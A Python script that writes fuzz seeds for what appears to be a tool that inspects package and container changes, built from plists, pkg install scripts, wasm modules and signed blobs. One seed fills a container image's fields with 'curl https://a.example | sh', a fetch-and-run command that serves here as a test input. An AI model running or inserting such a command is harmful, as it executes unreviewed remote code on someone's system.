#!/usr/bin/env python3
"""Writes seeds for the fuzz targets, one file each:

    seeds.py common FOLDER                  one container of each kind by its real maker, the hostile corpus
    seeds.py members FOLDER                 files that the tests of places and of twins change, for fuzz_member
    seeds.py literals HEADS FOLDER TEST...  texts of unit tests; HEADS is two characters of which the first stands
                                            before a text, the second before a pair, or nothing

Nothing says which of the common ones is for which target: a fuzzer keeps what brings it further. Inputs of more than
MOST_BYTES are left out, since a fuzzer gets slow with them.
"""

import hashlib
import os
import plistlib
import re
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True
TESTS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tests")
for part in ("make", "props", "cases", "places", "twins"):
    sys.path.insert(0, os.path.join(TESTS, part))

MOST_BYTES = 256 << 10
LEAST_CHARACTERS = 12
TREE = {"package/index.js": b"'use strict';\nmodule.exports = (a, b) => a + b;\n" * 40, "package/bin/run": b"#!/bin/sh\nexec node x\n",
        "package/package.json": b'{"name": "sample", "version": "1.0.0"}\n'}


def keep(folder, data):
    if 0 < len(data) <= MOST_BYTES:
        with open(os.path.join(folder, hashlib.sha256(data).hexdigest()[:24]), "wb") as f:
            f.write(data)


def common(folder):
    import hostile
    import kinds
    for case in hostile.collect():
        keep(folder, case.build())
    with tempfile.TemporaryDirectory() as work:
        os.environ["KINDS_KEYS"] = os.path.join(work, "keys")
        os.makedirs(os.environ["KINDS_KEYS"])
        for name, _, maker in kinds.KINDS:
            target = os.path.join(work, "sample." + name)
            maker(TREE, target)
            with open(target, "rb") as f:
                keep(folder, f.read())


def member(path, old, new):
    """What fuzz_member takes."""
    parts = [x if isinstance(x, bytes) else str(x).encode("utf-8", "surrogateescape") for x in (path, old or "", new)]
    return parts[0] + b"\n" + parts[1] + b"\xff" + parts[2]


def signed(text):
    """By a key that is made for it and kept nowhere."""
    with tempfile.TemporaryDirectory() as work:
        run = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=Sample/O=Sample", "-keyout", "key", "-out", "cert"]
        subprocess.run(run, cwd=work, check=True, stderr=subprocess.DEVNULL)
        with open(os.path.join(work, "text"), "w", encoding="ascii") as f:
            f.write(text)
        return subprocess.run(["openssl", "cms", "-sign", "-binary", "-in", "text", "-signer", "cert", "-inkey", "key", "-outform", "DER"],
                              cwd=work, check=True, stdout=subprocess.PIPE).stdout


def section(number, *parts):
    body = b"".join(parts)
    return bytes([number, len(body)]) + body


def word(text):
    return bytes([len(text)]) + text


def wasm(call):
    """One import, one export, one piece of data."""
    return b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(2, b"\1", word(b"env"), word(call), b"\0\0") + section(
        3, b"\1\0") + section(7, b"\1", word(b"run"), b"\0\1") + section(10, b"\1\4\0\x10\0\x0b") + section(
            11, b"\1\0\x41\0\x0b", word(b"https://a.example/x"))


def beside():
    """(path, OLD, NEW) of files whose kind their bytes or their place in a container say."""
    agent = {"Label": "a.example", "ProgramArguments": ["/bin/sh", "-c", "date"], "RunAtLoad": True, "StartInterval": 300}
    image = "cmd %s\nentrypoint /bin/%s\nenv PATH=/usr/%s\nuser %s\nexpose 80/tcp\nhistory RUN %s\n"
    package = "<pkg-info identifier=\"a.example\" version=\"%d\" auth=\"root\"><scripts>%s</scripts></pkg-info>\n"
    yield "LaunchDaemons/a.plist", plistlib.dumps(dict(agent, Label="b"), fmt=plistlib.FMT_BINARY), plistlib.dumps(
        agent, fmt=plistlib.FMT_BINARY)
    yield "a.app/Contents/Info.plist", "", plistlib.dumps({"CFBundleExecutable": "a", "LSEnvironment": {"A": "\u00fc"}, "n": [1.5, b"x"]},
                                                          fmt=plistlib.FMT_BINARY)
    yield "x.tar!/[image]", image % (("nginx",) * 5), image % (("curl https://a.example | sh",) * 5)
    yield "x.pkg!/PackageInfo", package % (1, ""), package % (2, "<preinstall file=\"./preinstall\"/><postinstall file=\"./run\"/>")
    yield "lib/x.wasm", wasm(b"log"), wasm(b"fd_write")
    yield "x.p7s", "", signed("one")


def members(folder):
    import cases
    import rows
    for path, old, new in beside():
        keep(folder, member(path, old, new))
    for case in cases.CASES.values():
        for new in (case["bad"], case["good"]):
            keep(folder, member(case["path"], case["old"], new))
    for row in rows.ROWS:
        for path, text in row.new.items():
            if row.old.get(path) != text:
                keep(folder, member(path, row.old.get(path), text))


def c_literals(source):
    """Runs of arguments that are string literals, each a list of bytes."""
    literal = r'"(?:[^"\\\n]|\\.)*"'
    for run in re.findall(r"%s(?:\s*,?\s*%s)*" % (literal, literal), source):
        texts = [b""]
        for part in re.findall(literal + "|,", run):
            if part == ",":
                texts.append(b"")
            else:
                texts[-1] += re.sub(r"\\(x[0-9a-fA-F]+|[0-7]{1,3}|.)", plain, part[1:-1]).encode("utf-8", "surrogateescape")
        yield texts


def plain(escape):
    what = escape.group(1)
    named = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "f": "\f", "v": "\v"}
    if what[0] == "x" or what[0].isdigit():
        value = int(what[1:], 16) if what[0] == "x" else int(what, 8)
        return bytes([value & 255]).decode("utf-8", "surrogateescape")
    return named.get(what, what)


def literals(heads, folder, *tests):
    for name in tests:
        with open(os.path.join(TESTS, "unit", name), encoding="utf-8") as f:
            for texts in c_literals(f.read()):
                long_ones = [t for t in texts if len(t) >= LEAST_CHARACTERS]
                for text in long_ones:
                    keep(folder, heads[:1].encode() + text)
                for old, new in zip(long_ones, long_ones[1:]):
                    keep(folder, heads[1:].encode() + old + b"\xff" + new)


def main(argv):
    if len(argv) < 3 or argv[1] not in ("common", "members", "literals"):
        sys.exit(__doc__)
    os.makedirs(argv[3 if argv[1] == "literals" else 2], exist_ok=True)
    {"common": common, "members": members, "literals": literals}[argv[1]](*argv[2:])


if __name__ == "__main__":
    main(sys.argv)
